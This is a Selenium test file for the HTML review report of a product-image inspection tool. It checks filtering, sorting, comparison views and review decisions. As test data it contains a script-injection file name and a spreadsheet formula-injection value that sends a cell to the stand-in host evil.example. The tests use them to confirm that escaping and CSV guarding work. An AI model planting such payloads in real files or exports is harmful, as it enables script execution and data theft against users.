"""The report in a real headless Chromium (Debian's chromium + chromium-driver, driven by selenium).

Skipped when selenium, chromium or chromedriver is missing; CI installs them, and there a skip is a failure
(see NEEDS_SYSTEM_PROGRAMS in conftest.py).
"""

from __future__ import annotations

import os
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from test_report import (
    BAG,
    BASE_MISMATCHES,
    RUN_ARGS,
    SHOE,
    XSS_BRAND,
    XSS_ERROR,
    XSS_PATH,
    XSS_RAW,
    build_demo_store,
    item,
)

from inspector.fields import BUILTIN_FIELDS, ProductFields
from inspector.report import render_report
from inspector.store import open_store

pytestmark = pytest.mark.browser

try:  # a missing selenium skips each test (a failure where all tests are required), not the module silently
    from selenium import webdriver
    from selenium.common.exceptions import NoAlertPresentException
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select, WebDriverWait
except ImportError:
    webdriver = None


def builtin_fields(*values: object) -> ProductFields:
    """The built-in fields in declaration order: brand, title, category, price, currency, size_prices."""
    return ProductFields(dict(zip(BUILTIN_FIELDS.names, values, strict=False)))


CHROMIUM_FLAGS = (
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-dev-shm-usage",
    "--window-size=1400,1000",
)


def find_browser() -> tuple[str, str]:
    if webdriver is None:
        pytest.skip("browser tests need selenium (pip install selenium)")
    browser = next(
        (shutil.which(n) for n in ("chromium", "chromium-browser", "google-chrome") if shutil.which(n)), None
    )
    driver = shutil.which("chromedriver") or (
        "/usr/lib/chromium/chromedriver" if os.path.exists("/usr/lib/chromium/chromedriver") else None
    )
    if not browser or not driver:
        pytest.skip("chromium and chromedriver are not installed (apt-get install chromium chromium-driver)")
    return browser, driver


def start_chromium() -> tuple[Any, str]:
    browser, driver = find_browser()
    profile = tempfile.mkdtemp(prefix="inspector-chromium-")
    options = webdriver.ChromeOptions()
    options.binary_location = browser
    for flag in CHROMIUM_FLAGS:
        options.add_argument(flag)
    options.add_argument(f"--user-data-dir={profile}")
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    # An explicit driver path: selenium must not try to download one (CI has no internet).
    service = webdriver.ChromeService(executable_path=driver)
    return webdriver.Chrome(options=options, service=service), profile


@pytest.fixture(scope="module")
def chrome() -> Iterator[Any]:
    driver, profile = start_chromium()
    try:
        yield driver
    finally:
        driver.quit()
        shutil.rmtree(profile, ignore_errors=True)


@pytest.fixture(scope="module")
def reports(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("reports")
    store, base, tuned = build_demo_store(folder / "demo.db")
    paths = {
        "single": render_report(store, base, folder / "single.html"),
        "compare": render_report(store, base, folder / "compare.html", compare_run_id=tuned),
    }
    store.close()
    return paths


def load(chrome, path: Path) -> None:
    chrome.get_log("browser")  # drop messages of earlier pages
    chrome.get(path.as_uri())
    WebDriverWait(chrome, 20).until(
        lambda d: d.execute_script("return document.documentElement.dataset.ready")
    )


def visible_paths(chrome) -> list[str]:
    """The rows on screen, read in one go (a re-render cannot interleave)."""
    return chrome.execute_script(
        "return Array.from(document.querySelectorAll('#rows tbody tr.row'), row => row.dataset.path)"
    )


def assert_clean(chrome) -> None:
    """No script from the data ran, no alert is open, and the console has no error (a CSP block is one)."""
    assert chrome.execute_script("return window.__xss") is None
    with pytest.raises(NoAlertPresentException):
        chrome.switch_to.alert.text  # noqa: B018
    errors = [entry for entry in chrome.get_log("browser") if entry["level"] == "SEVERE"]
    assert not errors, errors


def test_mismatch_filter_shows_exactly_the_mismatched_images(chrome, reports) -> None:
    load(chrome, reports["single"])
    everything = visible_paths(chrome)
    assert len(everything) == 8 and everything == sorted(everything)
    assert chrome.find_element(By.ID, "count").text == "8 images"

    chrome.find_element(By.ID, "filter-mismatches").click()
    assert set(visible_paths(chrome)) == BASE_MISMATCHES
    assert chrome.find_element(By.ID, "count").text == "5 of 8 images match"

    Select(chrome.find_element(By.ID, "filter-field")).select_by_value("price")
    assert set(visible_paths(chrome)) == {"shoes/adidas-samba.jpg", "broken/truncated.jpg"}

    chrome.find_element(By.ID, "filter-mismatches").click()  # off again: the field alone filters nothing
    assert len(visible_paths(chrome)) == 8
    assert_clean(chrome)


def test_hostile_values_show_as_text(chrome, reports) -> None:
    load(chrome, reports["single"])
    row = chrome.find_element(By.CSS_SELECTOR, "#rows tbody tr.row[data-n='5']")
    assert row.get_attribute("data-path") == XSS_PATH
    assert row.find_element(By.CSS_SELECTOR, "td.file .path").text == XSS_PATH
    assert XSS_BRAND in row.find_element(By.CSS_SELECTOR, "td.f-brand").text
    assert not chrome.find_elements(By.CSS_SELECTOR, "#rows img:not(.thumb)")  # no <img> made from a value

    row.find_element(By.CSS_SELECTOR, "button.raw-toggle").click()
    raw = chrome.find_element(By.CSS_SELECTOR, "#rows tr.detail pre.raw")
    assert raw.get_attribute("textContent") == XSS_RAW

    failed = chrome.find_element(By.CSS_SELECTOR, "#rows tbody tr.row.failed")
    assert XSS_ERROR in failed.find_element(By.CSS_SELECTOR, "td.error-cell").text
    assert_clean(chrome)


def test_search_sort_category_confusion_and_lightbox(chrome, reports) -> None:
    load(chrome, reports["single"])
    search = chrome.find_element(By.ID, "search")
    search.send_keys("burberry")
    WebDriverWait(chrome, 5).until(lambda d: len(visible_paths(d)) == 2)
    assert set(visible_paths(chrome)) == {"bags/burberry-2.jpg", "bags/burberry-tote.jpg"}
    search.clear()
    search.send_keys("Samba")  # also finds values, not only file names
    WebDriverWait(chrome, 5).until(lambda d: visible_paths(d) == ["shoes/adidas-samba.jpg"])
    chrome.find_element(By.ID, "reset").click()
    assert len(visible_paths(chrome)) == 8

    price = chrome.find_element(By.CSS_SELECTOR, "th[data-sort='price']")
    price.click()
    order = visible_paths(chrome)
    assert order[:2] == ["odd/<script>window.__xss=1</script>\"'.jpg", "tees/acme-shirt.jpg"]  # 25.00 each
    assert order[-1] == "broken/truncated.jpg"  # no price: last either way
    price.click()
    assert visible_paths(chrome)[:2] == ["bags/burberry-2.jpg", "bags/burberry-tote.jpg"]  # 1290.00
    assert price.get_attribute("aria-sort") == "descending"

    Select(chrome.find_element(By.ID, "filter-value")).select_by_value("category=hats")
    assert visible_paths(chrome) == ["extra/no-row.jpg"]
    Select(chrome.find_element(By.ID, "filter-value")).select_by_value("brand=burberry")
    assert visible_paths(chrome) == ["bags/burberry-2.jpg", "bags/burberry-tote.jpg"]
    chrome.find_element(By.ID, "reset").click()

    chrome.find_element(
        By.CSS_SELECTOR,
        "table.confusion[data-field='category'] td[data-truth='t shirts'][data-pred='shirts']",
    ).click()
    assert visible_paths(chrome) == ["tees/acme-shirt.jpg"]
    chip = chrome.find_element(By.ID, "confusion-chip")
    assert chip.is_displayed() and "Category T-Shirts → Shirts" in chip.text
    chip.find_element(By.TAG_NAME, "button").click()
    assert len(visible_paths(chrome)) == 8

    chrome.find_element(By.CSS_SELECTOR, "#rows tr.row[data-path='shoes/nike-dunk.jpg'] img.thumb").click()
    lightbox = chrome.find_element(By.ID, "lightbox")
    assert lightbox.is_displayed() and "shoes/nike-dunk.jpg" in lightbox.text
    assert chrome.execute_script("return document.querySelector('#lightbox img').naturalWidth") == 96
    lightbox.click()
    assert not lightbox.is_displayed()
    assert_clean(chrome)


def test_compare_report(chrome, reports) -> None:
    load(chrome, reports["compare"])
    assert len(visible_paths(chrome)) == 8
    tote = chrome.find_element(By.CSS_SELECTOR, "#rows tr.row[data-path='bags/burberry-tote.jpg'] td.f-brand")
    lines = [line.text for line in tote.find_elements(By.CSS_SELECTOR, ".val")]
    assert lines[0].startswith("A") and "MISSED" in lines[0].upper()
    assert lines[1].replace("\n", " ") == "B Burberry"

    Select(chrome.find_element(By.ID, "filter-change")).select_by_value("better")
    assert set(visible_paths(chrome)) == {
        "bags/burberry-tote.jpg",
        XSS_PATH,
        "tees/acme-shirt.jpg",
        "shoes/adidas-samba.jpg",
    }
    Select(chrome.find_element(By.ID, "filter-change")).select_by_value("worse")
    assert visible_paths(chrome) == []
    assert "No image matches" in chrome.find_element(By.CSS_SELECTOR, "#rows tbody").text
    chrome.find_element(By.ID, "reset").click()

    chrome.find_element(By.ID, "filter-mismatches").click()  # a mismatch in either run counts
    assert set(visible_paths(chrome)) == BASE_MISMATCHES
    assert_clean(chrome)


def test_category_filter_can_pick_images_without_a_category(chrome, tmp_path: Path) -> None:
    """The "(none)" category must filter, not act like "all" (both used to have the value "")."""
    no_category = builtin_fields("Acme", "Mystery Box", None, 10.0, "USD")
    with open_store(tmp_path / "r.db") as store:
        run = store.start_run("k", name=None, **RUN_ARGS)
        store.add_batch(
            run,
            [
                item(0, "shoes/nike-dunk.jpg", SHOE, SHOE),
                item(1, "misc/box.jpg", no_category, no_category),
                item(2, "bags/burberry-2.jpg", BAG, BAG),
            ],
        )
        report = render_report(store, run, tmp_path / "report.html")
    load(chrome, report)
    assert len(visible_paths(chrome)) == 3
    select = Select(chrome.find_element(By.ID, "filter-value"))
    (none,) = [o for o in select.options if o.text.startswith("(none)")]  # only the category has an empty one
    none.click()
    assert visible_paths(chrome) == ["misc/box.jpg"]
    select.select_by_value("category=shoes")
    assert visible_paths(chrome) == ["shoes/nike-dunk.jpg"]
    chrome.find_element(By.ID, "reset").click()
    assert len(visible_paths(chrome)) == 3 and select.first_selected_option.text == "all"
    assert_clean(chrome)


def review_items(chrome, list_id: str) -> list[tuple[str, str, str]]:
    """(file name, field, confidence text) of each item of a review list, in order."""
    return [tuple(item) for item in chrome.execute_script(
        "return Array.from(document.querySelectorAll('#' + arguments[0] + ' li.review-item'), li => ["
        "li.querySelector('.path').textContent.split('/').pop().split('  ')[0], li.dataset.field,"
        "li.querySelector('.conf').textContent])",
        list_id,
    )]


def test_review_decision_survives_a_reload_and_round_trips_through_import(chrome, confident_scan, tmp_path):
    import csv
    import io
    import sqlite3
    from urllib.parse import unquote

    from click.testing import CliRunner

    from inspector.cli import cli

    db, names = confident_scan["db"], [s.path.name for s in confident_scan["sources"]]
    store = open_store(str(db))
    report = render_report(store, 1, tmp_path / "report.html")
    store.close()
    load(chrome, report)
    chrome.execute_script("window.localStorage.clear()")
    load(chrome, report)
    disagreements = review_items(chrome, "review-disagreements")
    # Most confident disagreement first; the titles the model never gave (no confidence) last.
    assert disagreements[:4] == [
        (names[1], "category", "97.0%"), (names[3], "price", "90.0%"),
        (names[2], "category", "55.0%"), (names[3], "category", "20.0%"),
    ]  # fmt: skip
    assert {item[1:] for item in disagreements[4:]} == {("title", "–")}
    assert review_items(chrome, "review-unsure")[0] == (names[3], "category", "20.0%")

    # The confidence filter keeps only the disagreements the model was at least 60% sure of.
    low = chrome.find_element(By.ID, "review-min")
    low.clear()
    low.send_keys("60\t")
    assert [item[2] for item in review_items(chrome, "review-disagreements")] == ["97.0%", "90.0%"]

    # Decide on the top disagreement: the catalogue is wrong, with a corrected value.
    def entry(index: int):  # each decision redraws the lists: find the entry again
        return chrome.find_elements(By.CSS_SELECTOR, "#review-disagreements li.review-item")[index]

    entry(0).find_element(By.CSS_SELECTOR, "input[value=catalogue_wrong]").click()
    # A value a spreadsheet would run as a formula (issue 15.5): the download guards it, the import unguards it.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Coat, long")'
    entry(0).find_element(By.CSS_SELECTOR, "input.corrected").send_keys(formula + "\t")
    second = chrome.find_elements(By.CSS_SELECTOR, "#review-disagreements li.review-item")[1]
    second.find_element(By.CSS_SELECTOR, "input[value=model_wrong]").click()

    load(chrome, report)  # closing the tab loses nothing
    top = chrome.find_element(By.CSS_SELECTOR, "#review-disagreements li.review-item")
    assert top.find_element(By.CSS_SELECTOR, "input[value=catalogue_wrong]").is_selected()
    assert top.find_element(By.CSS_SELECTOR, "input.corrected").get_attribute("value") == formula

    href = chrome.find_element(By.ID, "review-download").get_attribute("href")
    assert href.startswith("data:text/csv;charset=utf-8,")
    rows = list(csv.DictReader(io.StringIO(unquote(href.split(",", 1)[1]))))
    assert [(r["run_id"], r["field"], r["decision"], r["corrected_value"]) for r in rows] == [
        ("1", "category", "catalogue_wrong", "'" + formula), ("1", "price", "model_wrong", ""),
    ]
    assert_clean(chrome)

    decisions = tmp_path / "decisions.csv"
    decisions.write_text(unquote(href.split(",", 1)[1]))
    result = CliRunner().invoke(cli, ["review", "import", str(decisions), "--db", str(db)])
    assert result.stdout == (
        "Decisions: 2 rows read: 2 added, 0 updated, 0 unchanged, 0 skipped, 0 duplicates, 0 overridden\n"
    )
    with sqlite3.connect(db) as connection:
        assert connection.execute("select corrected_value from reviews order by id").fetchall() == [(formula,), (None,)]

    # The next report shows the stored decisions, also in a browser that never saw them.
    store = open_store(str(db))
    again = render_report(store, 1, tmp_path / "again.html")
    store.close()
    load(chrome, again)
    chrome.execute_script("window.localStorage.clear()")
    load(chrome, again)
    top = chrome.find_element(By.CSS_SELECTOR, "#review-disagreements li.review-item")
    assert top.find_element(By.CSS_SELECTOR, "input[value=catalogue_wrong]").is_selected()
    assert top.find_element(By.CSS_SELECTOR, ".stored").text == "imported"
    assert_clean(chrome)


def test_review_counts_decisions_and_the_images_table_shows_them(chrome, confident_scan, tmp_path):
    """Issue 20.6: "decided n of m" in the review view; decisions visible in the Images table."""
    names = [s.path.name for s in confident_scan["sources"]]
    store = open_store(str(confident_scan["db"]))
    report = render_report(store, 1, tmp_path / "report.html")
    store.close()
    load(chrome, report)
    chrome.execute_script("window.localStorage.clear()")
    load(chrome, report)
    total = int(chrome.find_element(By.ID, "review-count").text.split()[0])
    assert total == len(review_items(chrome, "review-disagreements")) == 8
    assert chrome.find_element(By.ID, "review-decided").text == "decided 0 of 8"

    assert review_items(chrome, "review-disagreements")[0] == (names[1], "category", "97.0%")
    top = chrome.find_element(By.CSS_SELECTOR, "#review-disagreements li.review-item")
    top.find_element(By.CSS_SELECTOR, "input[value=catalogue_wrong]").click()
    top = chrome.find_element(By.CSS_SELECTOR, "#review-disagreements li.review-item")
    top.find_element(By.CSS_SELECTOR, "input.corrected").send_keys("Coat, long\t")
    assert chrome.find_element(By.ID, "review-decided").text == "decided 1 of 8"

    cell = chrome.find_element(By.CSS_SELECTOR, f"#rows tr.row[data-path$='{names[1]}'] td.f-category")
    assert cell.find_element(By.CSS_SELECTOR, ".decision .v").text == "catalogue is wrong → Coat, long"
    load(chrome, report)  # from localStorage after a reload, too
    cell = chrome.find_element(By.CSS_SELECTOR, f"#rows tr.row[data-path$='{names[1]}'] td.f-category")
    assert cell.find_element(By.CSS_SELECTOR, ".decision .v").text == "catalogue is wrong → Coat, long"
    assert chrome.find_element(By.ID, "review-decided").text == "decided 1 of 8"
    assert_clean(chrome)


def test_compare_report_fits_1400_px_without_horizontal_overflow(chrome, tmp_path: Path) -> None:
    """Issue 20.6: the brand confusion table of a comparison spilled out of a 1400 px window."""
    brands = [f"Manufacture Horlogère {name} & Fils" for name in "ABCDEFGHIJKLMNOPQRST"]
    with open_store(tmp_path / "r.db") as store:
        runs = []
        for shift, key in ((1, "a"), (2, "b")):
            run = store.start_run(key, name=key, **RUN_ARGS)
            store.add_batch(
                run,
                [
                    item(
                        i,
                        f"watches/{i}.jpg",
                        builtin_fields(brand, "Watch", "Watches", 100.0, "EUR"),
                        builtin_fields(brands[(i + shift) % len(brands)], "Watch", "Watches", 100.0, "EUR"),
                    )
                    for i, brand in enumerate(brands)
                ],
            )
            runs.append(run)
        report = render_report(store, runs[0], tmp_path / "compare.html", compare_run_id=runs[1])
    chrome.set_window_size(1400, 1000)
    load(chrome, report)
    widths = chrome.execute_script(
        "return [document.documentElement.scrollWidth, document.documentElement.clientWidth]"
    )
    assert widths[0] <= widths[1], widths
    # Chrome's innerText puts a line break after the inline-flex letter badge; the words are what is read
    assert " ".join(chrome.find_element(By.CSS_SELECTOR, "p.ab").text.split()).startswith("A run 1 (a)")
    assert_clean(chrome)
